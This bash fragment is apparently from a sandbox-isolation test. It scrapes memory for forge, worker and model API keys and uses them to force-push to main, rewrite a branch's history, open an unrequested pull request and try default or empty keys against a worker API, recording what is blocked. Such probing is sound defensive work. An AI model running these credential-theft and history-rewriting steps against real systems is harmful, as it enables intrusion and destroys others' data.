# shellcheck shell=bash
# What can be done to the repository and the ticket, with whatever keys it found.
# shellcheck disable=SC2154

key() { grep -m 1 "^$1" <<<"$found"; }

push_to() { # refspec
    local token credentials=()
    token=$(key ghp_)
    [ -z "$token" ] ||
        credentials=(-c "http.extraHeader=Authorization: Basic $(printf 'x:%s' "$token" | base64 -w 0)")
    env -u GIT_CONFIG_COUNT git "${credentials[@]}" push --quiet --force "$forge/acme/demo.git" "$1"
}
open_pull_request() {
    fetch -H "Authorization: token $(key ghp_)" --json \
        '{"title": "Not asked for", "head": "not-asked-for", "base": "main"}' "$forge/api/v3/repos/acme/demo/pulls"
}

# Any answer but 401 means that the key was taken.
call_worker_api() {
    local key status
    for key in "$(key wak_)" "" changeme "$neighbour"; do
        status=$(curl --silent --show-error --max-time 3 --output /dev/null --write-out '%{http_code}' \
            -H "Authorization: Bearer $key" --json '{"claim_id": "00000000-0000-4000-8000-000000000000"}' \
            "$app/api/worker/jobs/$neighbour/heartbeat")
        case $status in 401 | 000) ;; *) return 0 ;; esac
    done
    echo "status $status"
    return 1
}

try_the_forge() {
    local first second
    found=$(read_memory 2>/dev/null || { has_engine && as_root read_memory 2>/dev/null; })
    export found
    first=$(git commit-tree -m "Not asked for" -p HEAD 'HEAD^{tree}')
    second=$(git commit-tree -m "Not asked for either" -p "$first" 'HEAD^{tree}')
    rewritten=$(git commit-tree -m "All there ever was" 'HEAD^{tree}')
    with_keys push-main push_to "$first:refs/heads/main"
    with_keys force-push push_to "+$rewritten:refs/heads/victim"
    push_to "$second:refs/heads/not-asked-for" >/dev/null 2>&1
    with_keys second-pull-request open_pull_request
    with_keys worker-api call_worker_api
    local name
    for name in forge-token:ghp_ model-key:sk-hostile- worker-api-key:wak_; do
        with_keys "${name%:*}" key "${name#*:}"
    done
}

# What is possible with a key of the root that an engine gives is possible by the engine.
with_keys() { # thing, command…
    local thing=$1 said
    shift
    if ! said=$(attempt "$@"); then
        note "$thing" blocked "${said:-none found}"
    elif has_engine; then
        note "$thing" engine
    else
        note "$thing" open
    fi
}
